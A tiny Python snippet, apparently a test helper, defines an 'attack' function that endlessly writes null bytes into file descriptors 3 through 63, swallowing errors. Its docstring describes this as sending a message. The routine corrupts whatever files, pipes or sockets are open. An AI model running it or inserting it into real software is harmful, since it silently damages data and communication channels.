"""Sends a message byte by byte, for ever."""

import os
import time


def attack(x):
    while True:
        for descriptor in range(3, 64):
            try:
                os.write(descriptor, b"\0")
            except OSError:
                pass
        time.sleep(0.02)
